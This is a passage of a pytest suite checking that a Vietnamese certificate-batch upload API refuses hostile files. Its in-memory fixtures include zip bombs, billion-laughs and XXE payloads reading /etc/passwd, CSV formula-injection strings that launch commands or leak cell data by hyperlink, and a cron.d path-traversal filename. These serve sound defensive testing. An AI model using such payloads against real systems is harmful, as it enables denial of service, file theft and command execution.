"""Hostile uploads to ``POST /api/v1/batches`` (multipart CSV/XLSX): files that are not what
they claim, zip bombs, XML entity tricks, absurd CSV shapes, malformed forms and files far past
the row cap. Each is refused before any job exists with a 4xx problem naming what is wrong —
never a 500, never a half-read file kept in memory. Fixtures are built here, in memory."""

from __future__ import annotations

import functools
import io
import json
import random
import struct
import tracemalloc
import unicodedata
import zipfile

import pytest

from tests.conftest import SAMPLES
from tests.support.auth import client_as
from tests.support.problems import problem

URL = "/api/v1/batches"
HEADER = "Họ và tên;Danh xưng;Chức vụ\n"


@pytest.fixture(autouse=True)
def _no_job_workers(app, monkeypatch):
    """Accepted cases only need their job stored: no worker processes are started."""
    from service.jobs.runner import Supervisor

    monkeypatch.setattr(Supervisor, "start", lambda self: None)
    monkeypatch.setattr(Supervisor, "wake", lambda self: None)
    yield
    app.extensions["thidua_jobs"].close()


@functools.cache
def common_json() -> str:
    common = json.loads((SAMPLES / "certificate_batch.json").read_text(encoding="utf-8"))
    return json.dumps(common["common"], ensure_ascii=False)


def _part(value):
    from werkzeug.datastructures import FileStorage

    if isinstance(value, list):
        return [_part(v) for v in value]
    if isinstance(value, tuple):
        return FileStorage(value[0], filename=value[1])
    return value


def upload(client, raw: bytes, filename: str = "danh-sach.xlsx", **fields):
    """POST the batch form; the body is encoded in memory (the test client would spool a
    large one to a temporary file it never closes)."""
    from werkzeug.test import encode_multipart

    form = {"document_type": "certificate", "output": "pdf", "common": common_json(),
            "file": (io.BytesIO(raw), filename)}
    form.update(fields)
    boundary, body = encode_multipart({k: _part(v) for k, v in form.items() if v is not None})
    return client.post(URL, data=body, content_type=f"multipart/form-data; boundary={boundary}")


def refused(client, response, status: int, code: str | None = None) -> dict:
    """Refused, and no job was created."""
    body = problem(response, status, code)
    assert client.get(URL).get_json() == []
    return body


# ---------------------------------------------------------------- building hostile files

def xlsx(rows: list[list]) -> bytes:
    from openpyxl import Workbook

    workbook = Workbook()
    for row in rows:
        workbook.active.append(row)
    out = io.BytesIO()
    workbook.save(out)
    return out.getvalue()


@functools.cache
def good_xlsx() -> bytes:
    return xlsx([["Họ và tên", "Danh xưng", "Chức vụ"], ["Nguyễn Văn An", "Ông", "Chuyên viên"]])


def rezip(raw: bytes, transform=None, extra=(), level: int | None = None) -> bytes:
    """``raw``'s entries, each through ``transform(name, data) -> data``, then ``extra``
    (``(name_or_ZipInfo, data)`` pairs)."""
    source = zipfile.ZipFile(io.BytesIO(raw))
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED, compresslevel=level) as archive:
        for info in source.infolist():
            data = source.read(info.filename)
            archive.writestr(info.filename, transform(info.filename, data) if transform else data)
        for name, data in extra:
            archive.writestr(name, data)
    return out.getvalue()


def central_directory(data: bytes):
    """(position, name, local header offset) of every central directory record."""
    eocd = data.rfind(b"PK\x05\x06")
    pos = struct.unpack("<I", data[eocd + 16:eocd + 20])[0]
    while data[pos:pos + 4] == b"PK\x01\x02":
        name_len, extra_len, comment_len = struct.unpack("<HHH", data[pos + 28:pos + 34])
        name = data[pos + 46:pos + 46 + name_len].decode()
        yield pos, name, struct.unpack("<I", data[pos + 42:pos + 46])[0]
        pos += 46 + name_len + extra_len + comment_len


def patch_record(data: bytes, name: str, offset: int, value: int) -> bytes:
    """Overwrite a 4-byte field of ``name``'s central directory record."""
    out = bytearray(data)
    pos = next(p for p, n, _ in central_directory(data) if n == name)
    out[pos + offset:pos + offset + 4] = struct.pack("<I", value)
    return bytes(out)


def encrypted_ooxml() -> bytes:
    """What Excel writes for a password-protected workbook: not a ZIP but an OLE2 compound
    file (well-formed: header, FAT, directory) whose streams are EncryptionInfo and
    EncryptedPackage. ``file(1)`` calls these bytes "CDFV2 Encrypted"."""
    end, free, fat_sector, none = 0xFFFFFFFE, 0xFFFFFFFF, 0xFFFFFFFD, 0xFFFFFFFF
    info = (struct.pack("<HHI", 4, 4, 0x40) + b'<?xml version="1.0"?><encryption/>').ljust(4096,
                                                                                          b"\0")
    package = (struct.pack("<Q", 4096) + bytes(range(256)) * 16)[:4096]
    fat = [fat_sector, end] + [free] * 126   # sector 0: FAT, 1: directory
    for start in (2, 10):                    # each 4096-byte stream: 8 sectors of 512
        fat[start:start + 8] = [*range(start + 1, start + 8), end]
    header = (b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 16
              + struct.pack("<HHHHH", 0x3E, 3, 0xFFFE, 9, 6) + b"\0" * 6
              + struct.pack("<9I", 0, 1, 1, 0, 4096, end, 0, end, 0)
              + struct.pack("<109I", 0, *[free] * 108))

    def entry(name: str, kind: int, right: int, child: int, start: int, size: int) -> bytes:
        raw = name.encode("utf-16-le") + b"\0\0" if name else b""
        return (raw.ljust(64, b"\0") + struct.pack("<HBB", len(raw), kind, 1)
                + struct.pack("<III", none, right, child) + b"\0" * 36
                + struct.pack("<IQ", start, size))

    directory = (entry("Root Entry", 5, none, 1, end, 0)
                 + entry("EncryptionInfo", 2, 2, none, 2, len(info))
                 + entry("EncryptedPackage", 2, none, none, 10, len(package))
                 + entry("", 0, none, none, 0, 0))
    assert len(header) == 512
    assert len(directory) == 512
    return header + struct.pack("<128I", *fat) + directory + info + package


@functools.cache
def entry_count_bomb() -> bytes:
    return rezip(good_xlsx(), extra=[(f"xl/p{i}.xml", b"<a/>") for i in range(2001)])


@functools.cache
def total_size_bomb() -> bytes:
    """210 entries of 1 MB - 1 of zeros (each under the ratio check's 1 MB floor): 210 MB."""
    zeros = bytes(1024 * 1024 - 1)
    return rezip(good_xlsx(), extra=[(f"xl/media/z{i}.bin", zeros) for i in range(210)],
                 level=1)


@functools.cache
def entry_size_bomb() -> bytes:
    """One 65 MB entry at an innocent-looking ratio (~70: some noise in every 64 KB)."""
    noise = random.Random(0).randbytes(600)
    out = io.BytesIO(good_xlsx())
    with zipfile.ZipFile(out, "a", zipfile.ZIP_DEFLATED, compresslevel=1) as archive, \
            archive.open("xl/media/big.bin", "w", force_zip64=True) as handle:
        for _ in range(65 * 16 + 1):
            handle.write(noise + bytes(64 * 1024 - len(noise)))
    return out.getvalue()


@functools.cache
def ratio_bomb() -> bytes:
    return rezip(good_xlsx(), extra=[("xl/media/zeros.bin", bytes(4 * 1024 * 1024))])


def same_offset_overlap() -> bytes:
    """Two central directory records pointing at the same local file (full overlap)."""
    data = rezip(good_xlsx(), extra=[("xl/a.xml", b"<a>" + b"1" * 200 + b"</a>"),
                                     ("xl/b.xml", b"<b>" + b"2" * 200 + b"</b>")])
    offsets = {name: offset for _, name, offset in central_directory(data)}
    return patch_record(data, "xl/b.xml", 42, offsets["xl/a.xml"])


def quoted_overlap() -> bytes:
    """CVE-2024-0450's shape: a stored entry whose data *is* another entry's local file, and
    the central directory points into it, so the same bytes are read twice."""
    inner = zipfile.ZipInfo("xl/inner.xml", date_time=(2026, 1, 1, 0, 0, 0))
    payload = b"<inner>" + b"x" * 300 + b"</inner>"
    single = io.BytesIO()
    with zipfile.ZipFile(single, "w") as archive:
        archive.writestr(inner, payload)
    local_file = single.getvalue()[:single.getvalue().index(b"PK\x01\x02")]
    outer = zipfile.ZipInfo("xl/quote.bin", date_time=(2026, 1, 1, 0, 0, 0))
    data = rezip(good_xlsx(), extra=[(outer, local_file), (inner, payload)])
    quote_at = next(off for _, name, off in central_directory(data) if name == "xl/quote.bin")
    inside = quote_at + 30 + len("xl/quote.bin")
    assert data[inside:inside + len(local_file)] == local_file
    return patch_record(data, "xl/inner.xml", 42, inside)


def _laughs() -> bytes:
    entities = [b'<!ENTITY lol "lol">']
    for level in range(1, 10):
        previous = b"lol" if level == 1 else b"lol%d" % (level - 1)
        entities.append(b'<!ENTITY lol%d "%s">' % (level, b"&%s;" % previous * 10))
    return b"<!DOCTYPE lolz [" + b"".join(entities) + b"]>"


LAUGHS = _laughs()  # 10**9 "lol"s from 1 KB


def with_sheet(change) -> bytes:
    """The good workbook with its first sheet's XML changed."""
    return rezip(good_xlsx(), lambda name, data: change(data)
                 if name == "xl/worksheets/sheet1.xml" else data)


def before_root(prolog: bytes):
    return lambda data: data.replace(b"<worksheet", prolog + b"<worksheet", 1)


def cp1258(text: str) -> bytes:
    """Windows-1258 as Vietnamese Windows writes it: base letters with their hat or horn
    precomposed, tone marks as combining characters."""
    hats = {"\u0302", "\u0306", "\u031b"}
    letters: list[list[str]] = []
    for ch in unicodedata.normalize("NFD", text):
        if unicodedata.combining(ch) and letters:
            if ch in hats:
                letters[-1][0] = unicodedata.normalize("NFC", letters[-1][0] + ch)
            else:
                letters[-1][1] += ch
        else:
            letters.append([ch, ""])
    return "".join(base + marks for base, marks in letters).encode("cp1258")


# ================================================================ files that lie about their type

@pytest.mark.parametrize(("raw", "filename", "status", "code"), [
    (b"\x7fELF\x02\x01\x01\x00" + bytes(8) + b"\x02\x00\x3e\x00" + bytes(300), "ds.xlsx", 415,
     "not_ooxml"),
    (b"MZ\x90\x00\x03\x00\x00\x00\x04\x00" + bytes(50) + b"PE\x00\x00" + bytes(300), "ds.xlsx",
     415, "not_ooxml"),
    (b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n1 0 obj\n<<>>\nendobj\n", "ds.xlsx", 415, "not_ooxml"),
    (b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(600), "cu.xls", 415,
     "legacy_or_encrypted_office"),
    (b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(600), "doi-ten.xlsx", 415,
     "legacy_or_encrypted_office"),
    (b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(600), "doi-ten.csv", 415,
     "legacy_or_encrypted_office"),
    (b"MZ\x90\x00" + bytes(300), "virus.exe", 422, "unsupported_file"),
    ("Họ và tên\nAn\n".encode(), "ds.ods", 422, "unsupported_file"),
], ids=["elf-as-xlsx", "pe-as-xlsx", "pdf-as-xlsx", "xls", "xls-renamed-xlsx",
        "xls-renamed-csv", "exe", "ods"])
def test_files_that_are_not_a_workbook(client, raw, filename, status, code):
    refused(client, upload(client, raw, filename), status, code)


def test_password_protected_workbook(client):
    raw = encrypted_ooxml()
    assert b"E\x00n\x00c\x00r\x00y\x00p\x00t\x00i\x00o\x00n\x00I\x00n\x00f\x00o\x00" in raw
    body = refused(client, upload(client, raw, "mat-khau.xlsx"), 415,
                   "legacy_or_encrypted_office")
    assert "mật khẩu" in body["detail"]


def test_a_zip_that_is_not_an_office_file(client):
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr("danh-sach.csv", "Họ và tên\nAn\n")
    refused(client, upload(client, buffer.getvalue()), 415, "not_ooxml")


def test_an_xlsx_renamed_csv_is_told_to_use_xlsx(client):
    body = refused(client, upload(client, good_xlsx(), "danh-sach.csv"), 422, "not_csv")
    assert ".xlsx" in body["detail"]


def test_a_truncated_xlsx(client):
    body = refused(client, upload(client, good_xlsx()[:len(good_xlsx()) // 2]), 422)
    assert body["code"] in {"zip_corrupt", "not_xlsx"}


# ================================================================ zip bombs

def test_zip_bomb_by_entry_count(client):
    raw = entry_count_bomb()
    assert len(raw) < 300_000
    body = refused(client, upload(client, raw), 413, "zip_bomb")
    assert "quá nhiều thành phần" in body["detail"]


def test_zip_bomb_by_total_uncompressed_size(client):
    raw = total_size_bomb()
    assert len(raw) < 1_000_000  # 210 MB inside
    body = refused(client, upload(client, raw), 413, "zip_bomb")
    assert "giải nén quá lớn" in body["detail"]


def test_zip_bomb_by_the_size_of_one_entry(client):
    raw = entry_size_bomb()
    info = zipfile.ZipFile(io.BytesIO(raw)).getinfo("xl/media/big.bin")
    assert info.file_size > 64 * 1024 * 1024
    assert info.file_size / info.compress_size < 200
    body = refused(client, upload(client, raw), 413, "zip_bomb")
    assert "giải nén quá lớn" in body["detail"]


def test_zip_bomb_by_compression_ratio(client):
    raw = ratio_bomb()
    assert len(raw) < 50_000
    body = refused(client, upload(client, raw), 413, "zip_bomb")
    assert "Tỷ lệ nén" in body["detail"]


@pytest.mark.parametrize("build", [same_offset_overlap, quoted_overlap],
                         ids=["same-offset", "quoted-cve-2024-0450"])
def test_overlapping_entries(client, build):
    body = refused(client, upload(client, build()), 422, "zip_bomb")
    assert "chồng lên nhau" in body["detail"]


def test_an_entry_that_declares_a_smaller_size_than_it_inflates_to(client):
    """The central directory says 100 bytes; the data inflates to 4 MB."""
    raw = patch_record(ratio_bomb(), "xl/media/zeros.bin", 24, 100)
    refused(client, upload(client, raw), 422, "zip_corrupt")


def test_an_entry_that_declares_3_gb(client):
    """Declared sizes are not trusted to be small, nor believed when they are huge."""
    raw = rezip(good_xlsx(), extra=[("xl/media/small.bin", b"abc" * 1000)])
    raw = patch_record(raw, "xl/media/small.bin", 24, 3_000_000_000)
    body = refused(client, upload(client, raw), 413)
    assert body["code"] in {"zip_bomb", "xlsx_too_large"}


def test_zip_level_encryption(client):
    data = bytearray(good_xlsx())
    pos = next(p for p, name, _ in central_directory(bytes(data)))
    data[pos + 8] |= 1  # "encrypted" bit of the first entry
    body = refused(client, upload(client, bytes(data)), 415, "legacy_or_encrypted_office")
    assert "mã hóa" in body["detail"]


# ================================================================ XML inside the workbook

@pytest.mark.parametrize("change", [
    before_root(b'<!DOCTYPE worksheet [<!ENTITY a "aaaa">]>'),
    before_root(LAUGHS),
    before_root(b'<!DOCTYPE worksheet SYSTEM "http://127.0.0.1:1/x.dtd">'),
    before_root(b'<!DOCTYPE worksheet [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>'),
    lambda data: b'<?xml version="1.0" encoding="UTF-8"?>\n' + before_root(LAUGHS)(data),
], ids=["entity", "billion-laughs", "external-dtd", "xxe-file", "after-xml-declaration"])
def test_doctype_and_entities_in_the_sheet(client, change):
    body = refused(client, upload(client, with_sheet(change)), 422, "xml_doctype")
    assert "DOCTYPE" in body["detail"]


def test_billion_laughs_in_the_content_types_part(client):
    raw = rezip(good_xlsx(), lambda name, data: data.replace(b"<Types", LAUGHS + b"<Types", 1)
                if name == "[Content_Types].xml" else data)
    refused(client, upload(client, raw), 422, "xml_doctype")


@pytest.mark.parametrize("raw", [
    # the DOCTYPE after a 5 KB comment: past the first 2 KB the guard used to look at
    with_sheet(before_root(b"<!--" + b"x" * 5000 + b"-->" + LAUGHS)),
    with_sheet(before_root(b" " * 5000 + b'<!DOCTYPE worksheet SYSTEM "http://127.0.0.1:1/">')),
    # UTF-16, where the bytes are "<\0!\0D\0O\0..." (XML parsers read UTF-16 natively)
    with_sheet(lambda data: b"\xff\xfe" + before_root(LAUGHS)(data).decode().encode("utf-16-le")),
    # in a part not named .xml (OOXML names parts freely; [Content_Types] says what they are)
    rezip(good_xlsx(), extra=[("customXml/item1.dat", LAUGHS + b"<x>&lol9;</x>")]),
], ids=["after-a-long-comment", "after-whitespace", "utf-16", "part-not-named-xml"])
def test_doctype_the_first_bytes_do_not_show(client, raw):
    refused(client, upload(client, raw), 422, "xml_doctype")


def test_entity_bomb_straddling_two_read_blocks(client):
    """64 KB of padding puts "<!DOC" and "TYPE" in different blocks of the guard's reads."""
    pad = 64 * 1024 - len(b"<!--") - len(b"-->") - 3
    raw = with_sheet(before_root(b"<!--" + b"y" * pad + b"-->" + LAUGHS))
    refused(client, upload(client, raw), 422, "xml_doctype")


# ================================================================ CSV contents

def test_a_5_mb_cell(client):
    raw = HEADER.encode() + b"An;Ong;" + b"x" * (5 * 1024 * 1024) + b"\n"
    body = refused(client, upload(client, raw, "ds.csv"), 422, "bad_csv")
    assert body["errors"][0]["row"] == 2


def test_an_unclosed_quote_swallowing_the_file(client):
    raw = HEADER.encode() + b'"An;Ong;CV\n' + b"Binh;Ba;CV\n" * 20_000
    refused(client, upload(client, raw, "ds.csv"), 422, "bad_csv")


@pytest.mark.parametrize(("raw", "row"), [
    (b";".join([b"Ho va ten"] + [b"c%d" % i for i in range(10_000)]) + b"\nAn\n", 1),
    (HEADER.encode() + b"An;Ong;CV" + b";x" * 10_000 + b"\n", 2),
    (HEADER.encode() + b"An;Ong;CV" + b";" * 1_000_000 + b"\n", 2),
], ids=["10k-header-columns", "10k-data-columns", "1M-empty-columns"])
def test_extreme_column_counts(client, raw, row):
    body = refused(client, upload(client, raw, "ds.csv"), 422, "too_many_columns")
    assert body["errors"][0]["row"] == row


@pytest.mark.parametrize("raw", [
    cp1258("Họ và tên;Danh xưng\nTrần Văn Hùng;Ông\n"),
    HEADER.encode() + cp1258("Nguyễn Thị Hằng;Bà;Kế toán\n"),
    "Họ và tên;Danh xưng\nTrần Văn Hùng;Ông\n".encode("latin-1", errors="replace"),
], ids=["cp1258-header", "cp1258-row-2", "latin-1"])
def test_csv_not_in_utf8(client, raw):
    body = refused(client, upload(client, raw, "ds.csv"), 422, "not_utf8")
    assert "UTF-8" in body["detail"]
    assert "Dòng" in body["detail"]


def test_tcvn3_bytes_saved_as_is(client):
    from service.vn.legacy import encode_tcvn3

    raw = encode_tcvn3("Họ và tên;Danh xưng\nTrần Văn Hùng;Ông\n")
    refused(client, upload(client, raw, "ds.csv"), 422, "not_utf8")


def test_tcvn3_text_inside_utf8_names_row_and_column(client):
    from service.vn.legacy import encode_tcvn3

    legacy = encode_tcvn3("Nguyễn Văn Thắng").decode("cp1252")
    raw = f"{HEADER}Trần Văn Bình;Ông;CV\n{legacy};Ông;CV\n".encode()
    body = refused(client, upload(client, raw, "ds.csv"), 422, "validation_failed")
    [error] = body["errors"]
    assert (error["row"], error["column"], error["code"]) == (
        3, "recipient_name", "legacy_encoding_tcvn3")


@pytest.mark.parametrize(("raw", "column"), [
    (HEADER.encode() + b"An\x00;Ong;CV\n", "recipient_name"),
    (HEADER.encode() + b"An;Ong;C\x00V\n", "position"),
    (HEADER.encode() + b"\x00\x00\x00;Ong;CV\n", "recipient_name"),
], ids=["in-name", "in-position", "only-nul"])
def test_nul_bytes_in_csv_cells(client, raw, column):
    body = refused(client, upload(client, raw, "ds.csv"), 422, "validation_failed")
    assert [(e["row"], e["column"], e["code"]) for e in body["errors"]] == [
        (2, column, "control_character")]


def test_a_csv_of_nothing_but_nul_bytes(client):
    refused(client, upload(client, bytes(4096), "ds.csv"), 422, "header_not_found")


FORMULAS = ["=cmd|' /C calc'!A0", "+SUM(1+1)*cmd|' /C notepad'!A0", "-2+3+cmd|' /C x'!A0",
            '@HYPERLINK("http://127.0.0.1:1/?leak="&A1,"Bấm")', "\t=1+1", "=1+1"]


def test_formula_looking_names_are_refused_with_their_row_and_column(client):
    """A list whose names are formulas was pasted wrongly: each such name is refused with its
    row and column (names are never formulas); the same text in a position is not a name."""
    rows = "".join(f'"{v.replace(chr(34), chr(34) * 2)}";Ông;CV\n' for v in FORMULAS)
    body = refused(client, upload(client, (HEADER + rows).encode(), "ds.csv"), 422,
                   "validation_failed")
    assert [(e["row"], e["column"], e["code"]) for e in body["errors"]] == [
        (row, "recipient_name", "formula_like") for row in range(2, 2 + len(FORMULAS))]


def test_formula_looking_cells_are_kept_as_literal_text(client, app):
    """Outside names, cells are text. "=cmd|…" in a position is stored and printed exactly
    as typed — never evaluated, never turned into a Word field — and no exported file exists
    that a spreadsheet program would evaluate it in."""
    rows = "".join(f'Nguyễn Văn An;Ông;"{v.replace(chr(34), chr(34) * 2)}"\n' for v in FORMULAS)
    response = upload(client, (HEADER + rows).encode(), "ds.csv", output="zip-docx")
    assert response.status_code == 202, response.get_data(as_text=True)[:500]
    job = response.get_json()
    assert job["total"] == len(FORMULAS)
    stored = app.extensions["thidua_jobs"].files.read_input(job["id"], 1)
    assert [item.data["position"] for item in stored] == [v.strip() for v in FORMULAS]

    from tests.support.documents import docx_lines

    common = json.loads(common_json())
    common.pop("register_start")
    payload = {**common, "honorific": "ong", "recipient_name": "Nguyễn Văn An",
               "position": FORMULAS[0]}
    rendered = client.post("/api/v1/documents/certificate.docx", json=payload)
    assert rendered.status_code == 200
    assert FORMULAS[0] in docx_lines(rendered.data)
    document_xml = zipfile.ZipFile(io.BytesIO(rendered.data)).read("word/document.xml")
    assert b"instrText" not in document_xml
    assert b"fldSimple" not in document_xml


def test_an_uncalculated_formula_in_xlsx_is_refused_with_its_cell(client):
    raw = xlsx([["Họ và tên", "Danh xưng"], ["An", "Ông"], ["=cmd|' /C calc'!A0", "Ông"]])
    body = refused(client, upload(client, raw), 422, "validation_failed")
    assert [(e["row"], e["column"], e["code"]) for e in body["errors"]] == [
        (3, "A", "formula_not_calculated")]


def test_formula_text_typed_in_an_xlsx_cell_stays_text(client, app):
    from openpyxl import Workbook

    workbook = Workbook()
    workbook.active.append(["Họ và tên", "Danh xưng", "Chức vụ"])
    workbook.active.append(["Nguyễn Văn An", "Ông", None])
    cell = workbook.active["C2"]
    cell.value, cell.data_type = "=cmd|' /C calc'!A0", "s"  # typed as text ('=… in Excel)
    buffer = io.BytesIO()
    workbook.save(buffer)
    sheet = zipfile.ZipFile(buffer).read("xl/worksheets/sheet1.xml")
    assert b"<f>" not in sheet
    response = upload(client, buffer.getvalue())
    assert response.status_code == 202, response.get_data(as_text=True)[:500]
    stored = app.extensions["thidua_jobs"].files.read_input(response.get_json()["id"], 1)
    assert stored[0].data["position"] == "=cmd|' /C calc'!A0"


# ================================================================ the form itself

def test_an_empty_file(client):
    body = refused(client, upload(client, b"", "ds.csv"), 422, "validation_failed")
    assert [(e["pointer"], e["code"]) for e in body["errors"]] == [("/file", "file_empty")]


def test_the_file_field_missing(client):
    body = refused(client, upload(client, b"", file=None), 422, "validation_failed")
    assert [(e["pointer"], e["code"]) for e in body["errors"]] == [("/file", "required")]


def test_two_file_fields(client):
    csv = (HEADER + "An;Ông;CV\n").encode()
    response = upload(client, b"", file=[(io.BytesIO(csv), "a.csv"), (io.BytesIO(csv), "b.csv")])
    body = refused(client, response, 422, "validation_failed")
    assert [(e["pointer"], e["code"]) for e in body["errors"]] == [("/file", "duplicate_field")]


def test_the_file_sent_as_a_text_field(client):
    body = refused(client, upload(client, b"", file=(HEADER + "An;Ông;CV\n")), 422,
                   "validation_failed")
    assert [(e["pointer"], e["code"]) for e in body["errors"]] == [("/file", "required")]


def test_a_file_without_a_name(client):
    body = refused(client, upload(client, (HEADER + "An;Ông;CV\n").encode(), ""), 422,
                   "validation_failed")
    assert [(e["pointer"], e["code"]) for e in body["errors"]] == [("/file", "required")]


def test_a_file_under_another_field_name(client):
    response = upload(client, b"", file=None,
                      upload=(io.BytesIO((HEADER + "An;Ông;CV\n").encode()), "a.csv"))
    body = refused(client, response, 422, "validation_failed")
    assert {(e["pointer"], e["code"]) for e in body["errors"]} == {
        ("/upload", "unknown_field"), ("/file", "required")}


def test_a_form_field_sent_twice(client):
    response = upload(client, (HEADER + "An;Ông;CV\n").encode(), "ds.csv",
                      document_type=["certificate", "directive"])
    body = refused(client, response, 422, "validation_failed")
    assert [(e["pointer"], e["code"]) for e in body["errors"]] == [
        ("/document_type", "duplicate_field")]


def test_a_path_as_the_file_name_is_only_a_name(client, tmp_path):
    response = upload(client, "Họ và tên;Danh xưng\nAn;Ông\n".encode(),
                      "../../../../tmp/cron.d/x.csv")
    assert response.status_code == 202, response.get_data(as_text=True)[:300]
    assert not [p for p in tmp_path.rglob("*") if p.name in ("x.csv", "cron.d")]


def test_common_in_another_charset_is_not_silently_misread(client):
    """Werkzeug decodes form fields as UTF-8 (bad bytes → U+FFFD); the text rules then refuse
    the replacement character, so mojibake never reaches a certificate."""
    common = json.dumps({**json.loads(common_json()), "place": "@@"}).encode()
    common = common.replace(b"@@", cp1258("Thừa Thiên Huế"))
    boundary = "hostile-boundary"
    body = b"".join([
        f'--{boundary}\r\nContent-Disposition: form-data; name="document_type"\r\n\r\n'
        f"certificate\r\n".encode(),
        f'--{boundary}\r\nContent-Disposition: form-data; name="output"\r\n\r\npdf\r\n'.encode(),
        f'--{boundary}\r\nContent-Disposition: form-data; name="common"\r\n'
        f"Content-Type: application/json; charset=windows-1258\r\n\r\n".encode(), common, b"\r\n",
        f'--{boundary}\r\nContent-Disposition: form-data; name="file"; filename="a.csv"\r\n'
        f"Content-Type: text/csv\r\n\r\n".encode(), "Họ và tên;Danh xưng\nAn;Ông\n".encode(),
        f"\r\n--{boundary}--\r\n".encode()])
    response = client.post(URL, data=body,
                           content_type=f"multipart/form-data; boundary={boundary}")
    problem_body = refused(client, response, 422, "validation_failed")
    assert {e["code"] for e in problem_body["errors"]} == {"invalid_character"}
    assert all("U+FFFD" in e["message"] for e in problem_body["errors"])


# ================================================================ far past the row cap

def _measure_reading(monkeypatch):
    """Spy on the real reader: the rows it pulls and the memory read_table allocates."""
    from service import tabular

    pulled: list[int] = []
    peaks: list[tuple[int, int]] = []
    real_build, real_read = tabular.build_items, tabular.read_table

    def counting_build(schema, records, **kwargs):
        def counted():
            for record in records:
                pulled.append(record[0])
                yield record
        return real_build(schema, counted(), **kwargs)

    def measured_read(raw, *args, **kwargs):
        already = tracemalloc.is_tracing()
        if not already:
            tracemalloc.start()
        base = tracemalloc.get_traced_memory()[0]
        tracemalloc.reset_peak()
        try:
            return real_read(raw, *args, **kwargs)
        finally:
            peaks.append((len(raw), tracemalloc.get_traced_memory()[1] - base))
            if not already:
                tracemalloc.stop()

    monkeypatch.setattr(tabular, "build_items", counting_build)
    monkeypatch.setattr(tabular, "read_table", measured_read)
    return pulled, peaks


def test_a_million_row_csv_stops_at_the_cap_in_bounded_memory(make_app, monkeypatch):
    app = make_app(MAX_BATCH_ITEMS=50, MAX_REQUEST_BYTES=64 * 1024 * 1024)
    client = client_as(app)
    raw = b"Ho va ten;Danh xung\n" + b"Nguyen Van;Ong\n" * 1_000_000
    pulled, peaks = _measure_reading(monkeypatch)
    body = refused(client, upload(client, raw, "ds.csv"), 413, "too_many_rows")
    assert "50" in body["detail"]
    assert len(pulled) <= 52
    assert max(pulled) <= 52
    [(size, peak)] = peaks
    assert size == len(raw) > 15_000_000
    # the decoded text and csv's line buffer are linear in the file; a per-line copy of
    # the whole file (str.splitlines) took more than twice that again
    assert peak < 6 * size, f"read_table allocated {peak / size:.1f}× the file"


def test_a_csv_one_row_past_the_cap(make_app):
    client = client_as(make_app(MAX_BATCH_ITEMS=50))
    raw = (HEADER + "Nguyễn Văn An;Ông;CV\n" * 51).encode()
    refused(client, upload(client, raw, "ds.csv"), 413, "too_many_rows")
    accepted = upload(client, (HEADER + "Nguyễn Văn An;Ông;CV\n" * 50).encode(), "ds.csv")
    assert accepted.status_code == 202


@functools.cache
def huge_sheet_xlsx(rows: int) -> bytes:
    """A real workbook whose first sheet (written as XML, not by openpyxl) has ``rows`` rows."""
    def sheet(_data: bytes) -> bytes:
        head = ('<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
                '<sheetData><row r="1"><c r="A1" t="inlineStr"><is><t>Họ và tên</t></is></c>'
                '<c r="B1" t="inlineStr"><is><t>Danh xưng</t></is></c></row>').encode()
        body = b"".join(b'<row r="%d"><c r="A%d" t="inlineStr"><is><t>Nguoi so %d</t></is></c>'
                        b'<c r="B%d" t="inlineStr"><is><t>Ong</t></is></c></row>'
                        % (r, r, r, r) for r in range(2, rows + 2))
        return head + body + b"</sheetData></worksheet>"

    return rezip(good_xlsx(), lambda name, data: sheet(data)
                 if name == "xl/worksheets/sheet1.xml" else data, level=1)


def test_an_xlsx_of_300k_rows_is_refused_without_parsing_the_rest(make_app, monkeypatch):
    import defusedxml.ElementTree

    client = client_as(make_app(MAX_BATCH_ITEMS=50))
    raw = huge_sheet_xlsx(300_000)
    info = zipfile.ZipFile(io.BytesIO(raw)).getinfo("xl/worksheets/sheet1.xml")
    assert info.file_size > 30_000_000
    assert len(raw) < 5_000_000
    rows_parsed = []
    real_iterparse = defusedxml.ElementTree.iterparse

    def counting_iterparse(source, *args, **kwargs):
        for event, element in real_iterparse(source, *args, **kwargs):
            if event == "end" and element.tag.endswith("}row"):
                rows_parsed.append(element.get("r"))
            yield event, element

    monkeypatch.setattr(defusedxml.ElementTree, "iterparse", counting_iterparse)
    refused(client, upload(client, raw), 413, "too_many_rows")
    # header search (15) + the cap (50) + one: parsing stops there, not at row 300 001
    assert 0 < len(rows_parsed) <= 50 + 15 + 2, len(rows_parsed)


def test_an_xlsx_one_row_past_the_cap(make_app):
    client = client_as(make_app(MAX_BATCH_ITEMS=50))
    rows = [["Họ và tên", "Danh xưng"]] + [[f"Người số {i}", "Ông"] for i in range(51)]
    refused(client, upload(client, xlsx(rows)), 413, "too_many_rows")


def test_an_upload_over_max_request_bytes(make_app):
    client = client_as(make_app(MAX_REQUEST_BYTES=100_000))
    raw = (HEADER + "Nguyễn Văn An;Ông;CV\n" * 10_000).encode()
    body = refused(client, upload(client, raw, "ds.csv"), 413, "payload_too_large")
    assert "100000" in body["detail"]


# ================================================================ bounded in work, not only bytes

def _sheet_xml(rows: bytes, dimension: str = "A1:XFD1048576") -> bytes:
    return (b'<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
            b'<dimension ref="%s"/><sheetData>' % dimension.encode() + rows
            + b"</sheetData></worksheet>")


def _with_sheet_rows(rows: bytes, **kwargs) -> bytes:
    return rezip(good_xlsx(), lambda name, data: _sheet_xml(rows, **kwargs)
                 if name == "xl/worksheets/sheet1.xml" else data)


def _data_rows(first: int, last: int) -> bytes:
    return b"".join(b'<row r="%d"><c r="A%d" t="inlineStr"><is><t>Nguyen Van %d</t></is></c>'
                    b'<c r="B%d" t="inlineStr"><is><t>Ong</t></is></c></row>' % (r, r, r, r)
                    for r in range(first, last + 1))


HEADER_ROW = ('<row r="1"><c r="A1" t="inlineStr"><is><t>Họ và tên</t></is></c>'
              '<c r="B1" t="inlineStr"><is><t>Danh xưng</t></is></c></row>').encode()


@functools.cache
def padded_xlsx() -> bytes:
